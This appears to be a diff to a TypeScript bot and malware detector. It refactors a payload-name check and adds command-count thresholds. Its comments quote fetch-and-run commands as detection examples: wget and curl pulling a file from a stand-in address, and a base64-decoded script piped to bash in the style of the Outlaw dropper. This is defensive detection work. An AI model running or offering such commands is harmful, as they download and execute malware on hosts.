@@ -49,15 +49,17 @@ function byProgram({ path, written, script }: Program): Mark | undefined {
   const name = botName(path);
   if (name && (placed || name !== "reaper")) return { mark: name, reason: `${name} is the name of a bot` };
   if (botLair(path)) return { mark: path.slice(0, 128), reason: `${path.slice(0, 128)} is a known bot's place` };
-  const hidden = inTemporaryDirectory(path) || /(?:^|\/)\.[^/]+\//.test(path);
-  if (
-    placed &&
-    ((hidden && (payloadArchitecture(path) || embeddedPayload(path, true))) ||
-      (!script && embeddedPayload(path, false)))
-  ) {
+  if (placed && namedForProcessor(path, script)) {
     return { mark: basename(path), reason: `a payload named for a processor is run: ${path.slice(0, 128)}` };
   }
   return undefined;
+}
+
+/** In a temporary or hidden place any processor in the name tells; elsewhere only those that no host like this one has. */
+function namedForProcessor(path: string, script: boolean): boolean {
+  if (inTemporaryDirectory(path) || /(?:^|\/)\.[^/]+\//.test(path))
+    return payloadArchitecture(path) !== undefined || embeddedPayload(path, true);
+  return !script && embeddedPayload(path, false);
 }
 
 /** `/bin/busybox ECCHI`; the wrapper was taken off, so the nonsense is the command's name. */
@@ -197,6 +199,7 @@ function loaderLine(commands: readonly Command[]): Mark | undefined {
 
 /** One file tried with one fetcher after another from a bare address: `wget http://192.0.2.1/x; curl -O http://192.0.2.1/x`. */
 function everyFetcher(commands: readonly Command[]): Mark | undefined {
+  if (commands.length < 3) return undefined;
   const tried = new Map<string, string>();
   for (const command of commands) {
     const fetch = fetchOf(command);
@@ -213,6 +216,7 @@ function everyFetcher(commands: readonly Command[]): Mark | undefined {
 
 /** `cd /tmp; echo <base64> | base64 -d | bash`: how Outlaw's dropper arrives. */
 function packedScript(commands: readonly Command[]): Mark | undefined {
+  if (commands.length < 4) return undefined;
   const decode = commands.find(
     ({ name, args }) => name === "base64" && args.some((arg) => /^(?:-d|-D|--decode)$/.test(arg)),
   );
